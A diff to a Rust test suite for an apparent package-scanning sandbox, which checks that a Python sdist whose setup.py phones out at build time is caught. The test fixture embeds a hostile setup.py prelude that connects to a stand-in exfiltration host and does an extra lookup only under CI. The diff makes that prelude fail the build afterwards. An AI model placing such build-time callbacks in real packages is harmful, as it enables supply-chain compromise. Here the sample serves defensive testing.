@@ -277,8 +277,9 @@ fn an_sdist_whose_setup_py_connects_at_build_is_caught_at_install_time() {
     }
     let w = World::new();
     let old = w.write("demo-pkg-1.0.0.tar.gz", &sdist("1.0.0", ""));
-    // Connects at every build; resolves a second name only when built in CI.
-    let prelude = "import os, socket\ntry:\n    socket.create_connection(('build.exfil.invalid', 443), timeout=3)\nexcept Exception:\n    pass\nif os.environ.get('GITHUB_ACTIONS'):\n    try:\n        socket.getaddrinfo('cibuild.exfil.invalid', 443)\n    except Exception:\n        pass\n";
+    // Connects at every build; resolves a second name only when built in CI; then fails the
+    // build (the payload has run: the failure must not hide it).
+    let prelude = "import os, socket\ntry:\n    socket.create_connection(('build.exfil.invalid', 443), timeout=3)\nexcept Exception:\n    pass\nif os.environ.get('GITHUB_ACTIONS'):\n    try:\n        socket.getaddrinfo('cibuild.exfil.invalid', 443)\n    except Exception:\n        pass\nraise SystemExit('the build fails after the payload ran')\n";
     let new = w.write("demo-pkg-1.0.1.tar.gz", &sdist("1.0.1", prelude));
     let (out, r) = w.diff(&old, &new, true);
     assert_eq!(out.status.code(), Some(1), "{r}");
@@ -295,6 +296,8 @@ fn an_sdist_whose_setup_py_connects_at_build_is_caught_at_install_time() {
         Some("detonation:install-time-ci"),
         "{r}"
     );
+    let stages = pkg["detonation"]["stages"].to_string();
+    assert!(stages.contains("install-time (pip failed)"), "{r}");
 }
 
 #[test]
@@ -335,6 +338,10 @@ fn a_benign_update_detonates_clean() {
     // It did run: the stages and a non-trivial number of events (pip, the interpreters).
     assert!(pkg["detonation"]["events"].as_u64().unwrap_or(0) > 0, "{r}");
     assert_eq!(pkg["detonation"]["timed_out"], false, "{r}");
+    assert!(
+        !pkg["detonation"]["stages"].to_string().contains("failed"),
+        "the wheel installed: {r}"
+    );
 }
 
 /// The attacker's view: payloads that look for signs of a sandbox or of CI before acting, one
